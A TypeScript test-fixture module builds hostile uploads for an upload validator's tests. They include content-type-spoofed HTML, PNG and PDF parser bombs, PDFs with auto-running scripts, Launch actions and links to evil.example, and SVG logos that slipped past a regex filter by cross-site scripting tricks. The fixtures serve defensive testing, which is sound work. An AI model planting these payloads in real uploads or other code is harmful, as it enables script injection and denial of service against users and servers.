import { createCipheriv, randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import type { PDFContext, PDFDict, PDFObject, PDFPage, SaveOptions } from 'pdf-lib';
import { PDFDocument, PDFInvalidObject, PDFName, PDFString, StandardFonts } from 'pdf-lib';
import sharp from 'sharp';
import { pngChunk } from './png-chunk.ts';

/**
 * Files an attacker uploads, shared by the file checks' own tests and the attack suite. Each
 * one was stored or served as it came before uploads were parsed.
 */

const PNG_SIGNATURE = Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]);

/** The PNG signature and then a web page: first-byte sniffing called it an image. */
export const pngSignatureWithScript = () =>
  Buffer.concat([PNG_SIGNATURE, Buffer.from('<html><script>alert(document.cookie)</script></html>')]);

/** A few hundred bytes that declare 30000 × 30000 pixels (3.6 GB decoded): a decompression bomb. */
export function pngBomb(width = 30_000, height = 30_000): Buffer {
  const header = Buffer.alloc(13);
  header.writeUInt32BE(width, 0);
  header.writeUInt32BE(height, 4);
  header.set([8, 6, 0, 0, 0], 8);
  return Buffer.concat([
    PNG_SIGNATURE,
    pngChunk('IHDR', header),
    pngChunk('IDAT', deflateSync(Buffer.alloc(64 * 1024))),
    pngChunk('IEND', Buffer.alloc(0)),
  ]);
}

/** A phone photo with the place it was taken (EXIF GPS) and an orientation of 90° clockwise. */
export function jpegWithGps(): Promise<Buffer> {
  return sharp({ create: { width: 40, height: 20, channels: 3, background: '#3366cc' } })
    .jpeg()
    .withMetadata({ orientation: 6 })
    .withExif({
      IFD0: { Make: 'PhoneMaker', Model: 'Pocket 9' },
      IFD3: {
        GPSLatitudeRef: 'N',
        GPSLatitude: '51/1 30/1 0/1',
        GPSLongitudeRef: 'W',
        GPSLongitude: '0/1 7/1 0/1',
      },
    })
    .toBuffer();
}

/** A web page that starts with the PDF signature: first-byte sniffing called it a PDF. */
export const htmlStartingWithPdf = () =>
  Buffer.from('%PDF-1.7\n<html><body><script>alert(document.cookie)</script></body></html>\n');

const N = (name: string) => PDFName.of(name);

/** Where a hostile PDF puts its content: the document, its one page, and helpers for both. */
interface Planting {
  doc: PDFDocument;
  ctx: PDFContext;
  page: PDFPage;
  /** A link annotation covering the page, with these entries (an /A action, /AA, ...). */
  annotate(entries: Record<string, PDFObject>): void;
}

const script = (ctx: PDFContext) => ctx.obj({ S: 'JavaScript', JS: PDFString.of('app.alert("pwned")') });
const webPage = (ctx: PDFContext) => ctx.obj({ S: 'URI', URI: PDFString.of('https://evil.example/collect') });
const linkTo = (action: (ctx: PDFContext) => PDFDict) => (p: Planting) => p.annotate({ A: action(p.ctx) });

/**
 * PDFs that parse, each carrying one kind of active content: what runs on its own (any action
 * at open, close or hover that is not a jump within the document), links that reach for
 * something other than a web page or an address, embedded content, and files pdf-lib cannot
 * read whole. Each was stored before pdf-file.ts refused it.
 */
const ACTIVE_PDFS = {
  'open-action-script': ({ doc, ctx }: Planting) =>
    doc.catalog.set(N('OpenAction'), ctx.register(script(ctx))),
  'page-additional-action': ({ page, ctx }: Planting) => page.node.set(N('AA'), ctx.obj({ O: script(ctx) })),
  'document-script': ({ doc, ctx }: Planting) =>
    doc.catalog.set(
      N('Names'),
      ctx.obj({ JavaScript: ctx.obj({ Names: [PDFString.of('init'), ctx.register(script(ctx))] }) }),
    ),
  'open-action-web-page': ({ doc, ctx }: Planting) => doc.catalog.set(N('OpenAction'), webPage(ctx)),
  'open-action-print': ({ doc, ctx }: Planting) =>
    doc.catalog.set(N('OpenAction'), ctx.obj({ S: 'Named', N: 'Print' })),
  'open-action-jump-then-web-page': ({ doc, ctx, page }: Planting) =>
    doc.catalog.set(N('OpenAction'), ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'], Next: [webPage(ctx)] })),
  'document-close-web-page': ({ doc, ctx }: Planting) =>
    doc.catalog.set(N('AA'), ctx.obj({ WC: webPage(ctx) })),
  'page-open-web-page': ({ page, ctx }: Planting) =>
    page.node.set(N('AA'), ctx.obj({ O: ctx.register(webPage(ctx)) })),
  'link-hover-web-page': (p: Planting) => p.annotate({ AA: p.ctx.obj({ E: webPage(p.ctx) }) }),
  'launch-link': linkTo((ctx) => ctx.obj({ S: 'Launch', F: PDFString.of('cmd.exe') })),
  'javascript-link': linkTo((ctx) => ctx.obj({ S: 'URI', URI: PDFString.of(' java\tscript:alert(1)') })),
  'file-link': linkTo((ctx) =>
    ctx.obj({ S: 'URI', URI: PDFString.of('file:///C:/Windows/System32/calc.exe') }),
  ),
  'submit-form-link': linkTo((ctx) =>
    ctx.obj({ S: 'SubmitForm', F: ctx.obj({ FS: 'URL', F: PDFString.of('https://evil.example/form') }) }),
  ),
  'import-data-link': linkTo((ctx) => ctx.obj({ S: 'ImportData', F: PDFString.of('answers.fdf') })),
  'remote-goto-link': linkTo((ctx) => ctx.obj({ S: 'GoToR', F: PDFString.of('other.pdf'), D: [0, 'Fit'] })),
  'embedded-goto-link': linkTo((ctx) =>
    ctx.obj({ S: 'GoToE', T: ctx.obj({ R: 'C', N: PDFString.of('inner.pdf') }) }),
  ),
  'other-file-thread-link': linkTo((ctx) => ctx.obj({ S: 'Thread', F: PDFString.of('other.pdf'), D: 0 })),
  'sound-link': linkTo((ctx) => ctx.obj({ S: 'Sound' })),
  'movie-link': linkTo((ctx) => ctx.obj({ S: 'Movie', T: PDFString.of('clip') })),
  'rich-media-annotation': ({ page, ctx }: Planting) =>
    page.node.set(
      N('Annots'),
      ctx.obj([ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'RichMedia', Rect: [0, 0, 100, 100] }))]),
    ),
  'embedded-file': async ({ doc }: Planting) => {
    await doc.attach(Buffer.from('MZ not really a program'), 'invoice.exe', {
      mimeType: 'application/x-msdownload',
    });
  },
  // A stray value pdf-lib's parser cannot place, so it keeps the object as raw bytes it never
  // judged; pdf.js skips the value and reads a link that starts a program.
  'unreadable-object': ({ page, ctx }: Planting) =>
    page.node.set(
      N('Annots'),
      ctx.obj([
        ctx.register(
          PDFInvalidObject.of(
            Buffer.from(
              '<< /Type /Annot /Subtype /Link /Rect [0 0 1 1] /A << /S /Launch /F (calc.exe) >> 0 >>',
            ),
          ),
        ),
      ]),
    ),
  // pdf-lib cannot encrypt; a trailer that names an encryption dictionary is what readers go by.
  encrypted: ({ ctx }: Planting) => {
    ctx.trailerInfo.Encrypt = ctx.register(ctx.obj({ Filter: 'Standard', V: 2, R: 3, Length: 128, P: -4 }));
  },
} satisfies Record<string, (planting: Planting) => void | Promise<void>>;

export type ActivePdf = keyof typeof ACTIVE_PDFS;
export const ACTIVE_PDF_KINDS = Object.keys(ACTIVE_PDFS) as ActivePdf[];

/**
 * The two ways a PDF is written: objects one by one with a plain cross-reference table, or
 * packed into compressed object streams with a compressed cross-reference stream, where no
 * key of a packed object can be found by searching the file's bytes.
 */
export const PDF_SERIALISATIONS = {
  classic: { useObjectStreams: false },
  'object streams': { useObjectStreams: true },
} satisfies Record<string, SaveOptions>;
export type PdfSerialisation = keyof typeof PDF_SERIALISATIONS;

async function onePagePdf(
  plant: (planting: Planting) => void | Promise<void>,
  serialisation: PdfSerialisation,
): Promise<Buffer> {
  const doc = await PDFDocument.create();
  const font = await doc.embedFont(StandardFonts.Helvetica);
  const page = doc.addPage([595, 842]);
  page.drawText('Consent form', { x: 60, y: 760, size: 16, font });
  const ctx = doc.context;
  const annotate = (entries: Record<string, PDFObject>) =>
    page.node.set(
      N('Annots'),
      ctx.obj([
        ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 0, 595, 842], ...entries })),
      ]),
    );
  await plant({ doc, ctx, page, annotate });
  return Buffer.from(await doc.save(PDF_SERIALISATIONS[serialisation]));
}

/** A one-page PDF that parses, carrying one kind of active content. */
export const activePdf = (kind: ActivePdf, serialisation: PdfSerialisation = 'classic') =>
  onePagePdf(ACTIVE_PDFS[kind], serialisation);

/**
 * A harmless PDF: it opens at its page, a page action and a bookmark-like link jump within
 * it, and links lead to a web page and a mail address. All of it stays allowed.
 */
export const pdfWithPlainJumpsAndLinks = (serialisation: PdfSerialisation = 'classic') =>
  onePagePdf(({ doc, ctx, page }) => {
    const jump = () => ctx.obj({ S: 'GoTo', D: [page.ref, 'Fit'] });
    const link = (uri: string) =>
      ctx.register(
        ctx.obj({
          Type: 'Annot',
          Subtype: 'Link',
          Rect: [0, 0, 100, 100],
          A: { S: 'URI', URI: PDFString.of(uri) },
        }),
      );
    doc.catalog.set(N('OpenAction'), ctx.obj([page.ref, 'FitH', 842]));
    doc.catalog.set(N('AA'), ctx.obj({ WC: jump() }));
    page.node.set(N('AA'), ctx.obj({ O: ctx.register(jump()) }));
    page.node.set(
      N('Annots'),
      ctx.obj([
        link('https://clinic.example/leaflet'),
        link('mailto:desk@clinic.example'),
        ctx.register(ctx.obj({ Type: 'Annot', Subtype: 'Link', Rect: [0, 100, 100, 200], A: jump() })),
      ]),
    );
  }, serialisation);

const svg = (body: string) =>
  Buffer.from(
    `<?xml version="1.0"?>\n<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="40" height="20">${body}<rect width="40" height="20" fill="#1d4ed8"/></svg>`,
  );

/**
 * SVG logos that passed the old regular-expression filter (the first four were found in a security review),
 * and the classics it did catch; each must come out as pixels only.
 */
export const SVG_LOGO_PAYLOADS: Record<string, Buffer> = {
  'script in the XHTML namespace': svg(
    '<html:script xmlns:html="http://www.w3.org/1999/xhtml">alert(document.domain)</html:script>',
  ),
  'entity-encoded javascript: link': svg(
    '<a href="&#106;avascript&#58;alert(1)"><text y="10">logo</text></a>',
  ),
  '<animate> that sets a link': svg(
    '<a><animate attributeName="href" values="javascript:alert(1)"/><text y="10">logo</text></a>',
  ),
  '<iframe>': svg(
    '<foreignObject width="40" height="20"><iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/"></iframe></foreignObject>',
  ),
  '<script>': svg('<script>alert(1)</script>'),
  'event handler': svg('<rect width="1" height="1" onload="alert(1)"/>'),
  'external image': svg('<image xlink:href="file:///etc/passwd" width="40" height="20"/>'),
};

/** `%PDF-1.7` and then random bytes: no PDF at all, which pdf-lib scanned for seconds on the event loop. */
export const randomAfterPdfHeader = (bytes = 5_000_000) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), randomBytes(bytes)]);

/**
 * Noise that is the same on every run: AES-256-CTR's keystream under a fixed key. Some draws of
 * truly random bytes end the parser's scan at once (now and then a run refused the file
 * without reaching its time limit), so a test of that limit needs bytes known to reach it.
 */
const fixedNoise = (bytes: number) =>
  createCipheriv('aes-256-ctr', Buffer.alloc(32, 7), Buffer.alloc(16)).update(Buffer.alloc(bytes));

/**
 * Noise ending as a PDF ends (`startxref`, an offset, `%%EOF`): past the structural check, so
 * the parser must judge it, and it takes pdf-lib seconds to give up.
 */
export const noisePdfWithTrailer = (bytes = 5_000_000) =>
  Buffer.concat([Buffer.from('%PDF-1.7\n'), fixedNoise(bytes), Buffer.from('\nstartxref\n0\n%%EOF\n')]);

/** One array of millions of empty arrays: a few megabytes that pdf-lib parses into hundreds of megabytes of objects. */
export const pdfObjectBomb = (arrays = 2_500_000) =>
  Buffer.from(`%PDF-1.7\n1 0 obj\n[${'[]'.repeat(arrays)}]\nendobj\nstartxref\n0\n%%EOF\n`, 'latin1');
